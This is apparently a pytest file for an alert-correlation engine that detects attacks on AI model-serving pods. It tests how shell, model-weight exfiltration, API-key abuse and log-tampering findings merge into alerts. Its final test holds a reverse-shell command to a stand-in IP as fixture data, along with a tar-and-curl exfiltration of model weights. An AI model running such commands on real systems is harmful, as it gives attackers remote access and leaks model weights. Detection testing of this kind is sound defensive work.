@@ -1,0 +1,203 @@
+"""Correlation: anchors, one alert per attack path, versions, idempotence, risk and severity."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import orjson
+import pytest
+
+from detectors.config import DetectionConfig
+from detectors.correlation import Correlator, anchor, risk_score
+from detectors.registry import build_all, by_class, detect_all
+from schemas import entities as ent
+from schemas.findings import Alert, Finding, stable_id
+from tests.contract.events import T0, cloudtrail, gateway, runtime
+
+pytestmark = pytest.mark.unit
+
+CONFIG = DetectionConfig()
+POD = ent.pod("ml-prod", "vllm-0")
+CONTAINER = ent.container("3f2a9c1b7d4e")
+
+
+def finding(detector: str, *, t: int = T0, entity: str = CONTAINER, entities: tuple[str, ...] = (POD,),
+            severity: str = "high", tactics: tuple[str, ...] = ("execution",), maturity: str = "stable",
+            phrase: str = "", anomaly: float = 0.0, public: bool = False, ai: bool = True, n: int = 0,
+            ai_workload: bool = True) -> Finding:
+    return Finding(
+        finding_id=stable_id(detector, entity, str(t), str(n)),
+        detector=detector,
+        title=detector.replace("_", " "),
+        maturity=maturity,
+        severity=severity,
+        time_ms=t,
+        entity_id=entity,
+        entities=[entity, *entities],
+        summary=f"{detector} on {entity}",
+        tactics=list(tactics),
+        atlas_techniques=["AML.T0050"],
+        attack_techniques=["T1059.004"],
+        evidence_event_ids=[f"ev-{detector}-{t}-{n}"],
+        anomaly_score=anomaly,
+        ai_asset=ai,
+        public_exposure=public,
+        attributes={"phrase": phrase or f"did {detector}", "ai_workload": "true" if ai_workload else "false"},
+    )
+
+
+def fold(findings: list[Finding], config: DetectionConfig = CONFIG) -> tuple[list[Alert | None], dict[str, Any]]:
+    correlator = Correlator(config)
+    states: dict[str, dict[str, Any]] = {}
+    out = [correlator.add(f, states.setdefault(anchor(f), {})) for f in findings]
+    return out, states
+
+
+def test_anchor_preference() -> None:
+    assert anchor(finding("x")) == POD  # pod before container
+    assert anchor(finding("x", entity=CONTAINER, entities=())) == CONTAINER
+    key = finding("x", entity=ent.apikey("k"), entities=(ent.principal("alice"), ent.ip("1.2.3.4")))
+    assert anchor(key) == ent.apikey("k")
+    principal = finding("x", entity=ent.principal("alice"), entities=(ent.ip("1.2.3.4"), ent.namespace("ml")))
+    assert anchor(principal) == ent.principal("alice")
+    assert anchor(finding("x", entity=ent.ip("1.2.3.4"), entities=(ent.host("h"),))) == ent.ip("1.2.3.4")
+    assert anchor(finding("x", entity=ent.namespace("ml"), entities=())) == ent.namespace("ml")
+
+
+def test_attack_path_becomes_one_alert() -> None:
+    shell = finding("model_server_shell", phrase="spawned a reverse shell", severity="critical")
+    weights = finding("weights_exfiltration", t=T0 + 60_000, severity="critical",
+                      tactics=("collection", "exfiltration"),
+                      phrase="read model weights and sent 820 MB to 203.0.113.9", entities=(POD, ent.ip("203.0.113.9")),
+                      anomaly=0.8)
+    alerts, states = fold([shell, weights])
+    first, second = alerts
+    assert first is not None and second is not None
+    assert first.alert_id == second.alert_id == stable_id(POD, shell.finding_id)
+    assert (first.version, second.version) == (1, 2)
+    assert second.first_seen == T0 and second.last_seen == T0 + 60_000
+    assert second.detectors == ["model_server_shell", "weights_exfiltration"]
+    assert second.tactics == ["execution", "collection", "exfiltration"]
+    assert second.severity == "critical" and second.primary_entity == POD
+    assert second.summary == (
+        "Model server pod ml-prod/vllm-0 spawned a reverse shell, then read model weights and sent 820 MB to "
+        "203.0.113.9 (3 tactics)"
+    )
+    assert ent.ip("203.0.113.9") in second.entities and CONTAINER in second.entities
+    assert second.evidence_event_ids == shell.evidence_event_ids + weights.evidence_event_ids
+    assert second.risk_score == risk_score("critical", False, True, 0.8, 3) == 75 + 5 + 8 + 10
+    assert len(states) == 1
+
+
+def test_single_finding_alert_keeps_its_summary() -> None:
+    (alert,), _ = fold([finding("cryptominer", entity=CONTAINER, severity="critical", tactics=("impact",))])
+    assert alert is not None and alert.summary == f"cryptominer on {CONTAINER}"
+
+
+def test_redelivery_is_idempotent() -> None:
+    f = finding("model_server_shell")
+    correlator = Correlator(CONFIG)
+    state: dict[str, Any] = {}
+    alert = correlator.add(f, state)
+    assert alert is not None and alert.version == 1
+    assert correlator.add(f, state) is None
+    again = Correlator(CONFIG).add(f, {})  # reprocessing from scratch: the same alert id
+    assert again is not None and again.alert_id == alert.alert_id
+
+
+def test_repeat_updates_the_open_alert_and_window_closes_it() -> None:
+    f1 = finding("shadow_ai_egress", severity="medium", tactics=("exfiltration",))
+    f2 = finding("shadow_ai_egress", t=T0 + 120_000, severity="medium", tactics=("exfiltration",))
+    late = finding("shadow_ai_egress", t=T0 + 120_000 + CONFIG.correlation_window_s * 1000 + 1,
+                   severity="medium", tactics=("exfiltration",))
+    (a1, a2, a3), _ = fold([f1, f2, late])
+    assert a1 is not None and a2 is not None and a3 is not None
+    assert a2.alert_id == a1.alert_id and a2.version == 2 and a2.last_seen == T0 + 120_000
+    assert a3.alert_id != a1.alert_id and a3.version == 1
+    short = DetectionConfig(correlation_window_s=60)
+    (b1, b2), _ = fold([f1, f2], short)
+    assert b1 is not None and b2 is not None and b1.alert_id != b2.alert_id
+
+
+def test_severity_bump_with_three_tactics_and_maturity() -> None:
+    findings = [
+        finding("a", severity="medium", tactics=("execution",), maturity="sandbox", n=1),
+        finding("b", severity="medium", tactics=("collection",), maturity="incubating", n=2),
+        finding("c", severity="low", tactics=("exfiltration",), maturity="sandbox", n=3),
+    ]
+    alerts, _ = fold(findings)
+    assert [a.severity for a in alerts if a] == ["medium", "medium", "high"]
+    assert [a.maturity for a in alerts if a] == ["sandbox", "incubating", "incubating"]
+    (sandbox_only,), _ = fold([finding("a", maturity="sandbox")])
+    assert sandbox_only is not None and sandbox_only.maturity == "sandbox"
+
+
+def test_risk_score_formula() -> None:
+    assert risk_score("info", False, False, 0.0, 1) == 5.0
+    assert risk_score("medium", True, False, 0.0, 1) == 45.0
+    assert risk_score("high", False, True, 0.5, 2) == 70.0
+    assert risk_score("critical", True, True, 1.0, 9) == 100.0
+    (exposed,), _ = fold([finding("exposed_ai_workload", entity=ent.principal("bob"), entities=(),
+                                  public=True, tactics=("initial-access", "ml-model-access"))])
+    assert exposed is not None and exposed.risk_score == 55 + 10 + 5 + 5
+
+
+def test_subjects_of_summaries() -> None:
+    key = ent.apikey("key-1")
+    alerts, _ = fold([
+        finding("stolen_api_key", entity=key, entities=(ent.principal("svc-rag-api"),), phrase="was used from new IP x",
+                tactics=("initial-access",)),
+        finding("cost_harvesting", entity=key, entities=(), phrase="ran up token spend on gpt-4o", tactics=("impact",),
+                t=T0 + 1000),
+    ])
+    assert alerts[-1] is not None
+    assert alerts[-1].summary == (
+        "API key key-1 (svc-rag-api) was used from new IP x, then ran up token spend on gpt-4o (2 tactics)"
+    )
+    pods, _ = fold([finding("x", ai_workload=False, phrase="p1"), finding("y", ai_workload=False, phrase="p2", n=1)])
+    assert pods[-1] is not None and pods[-1].summary.startswith("Pod ml-prod/vllm-0 p1, then p2")
+
+
+def test_state_is_bounded_and_json() -> None:
+    correlator = Correlator(CONFIG)
+    state: dict[str, Any] = {}
+    alert = None
+    for i in range(2000):
+        f = finding(f"det_{i % 40}", t=T0 + i * 100, n=i, entities=(POD, ent.ip(f"203.0.113.{i % 250}")),
+                    tactics=(f"tactic-{i % 20}",))
+        alert = correlator.add(f, state) or alert
+        state = orjson.loads(orjson.dumps(state))
+    assert alert is not None and alert.version == 2000
+    assert len(alert.entities) <= CONFIG.max_alert_entities and len(alert.evidence_event_ids) <= 20
+    assert len(alert.finding_ids) <= CONFIG.max_alert_findings
+    size = len(orjson.dumps(state))
+    print(f"\ncorrelation state after 2000 findings: {size} B")
+    assert size < 8192
+    assert Alert.from_dict(orjson.loads(orjson.dumps(alert.to_dict()))) == alert
+
+
+def test_findings_from_detectors_correlate_into_attack_paths() -> None:
+    events = [
+        runtime("process_exec", process="bash", cmdline="bash", parent="python3", t=T0),
+        runtime("process_exec", process="sh", cmdline="sh -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", parent="bash",
+                t=T0 + 5000),
+        runtime("file_open", file_path="/models/llama/model-00001-of-00004.safetensors", process="tar",
+                cmdline="tar czf - /models/llama", t=T0 + 70_000),
+        runtime("network_connect", process="curl", dst_ip="203.0.113.9", dst_port=443, bytes_out=820_000_000,
+                t=T0 + 75_000),
+        *[gateway(key="key-1", t=T0 + i * 3000, seq=i) for i in range(10)],
+        gateway(key="key-1", t=T0 + 40_000, ip="198.51.100.23", agent="curl/8.5.0", seq=50),
+        cloudtrail("StopLogging", "cloudtrail", t=T0 + 1000),
+    ]
+    dispatch = by_class(build_all(CONFIG))
+    states: dict[tuple[str, str], dict[str, Any]] = {}
+    findings = [f for e in sorted(events, key=lambda e: e.time_ms) for f in detect_all(dispatch, e, states)]
+    alerts, cstates = fold(findings)
+    final = {a.alert_id: a for a in alerts if a is not None}
+    assert len(final) == 3
+    pod_alert = next(a for a in final.values() if a.primary_entity == POD)
+    assert pod_alert.detectors == ["model_server_shell", "weights_exfiltration"]
+    assert pod_alert.severity == "critical" and len(pod_alert.tactics) == 3
+    assert pod_alert.summary.startswith("Model server pod ml-prod/vllm-0 spawned a shell, then spawned a reverse shell")
+    assert "820 MB to 203.0.113.9" in pod_alert.summary
+    assert {a.primary_entity for a in final.values()} == {POD, ent.apikey("key-1"), ent.apikey("ASIAKBBS0GOIHJQIQZXD")}
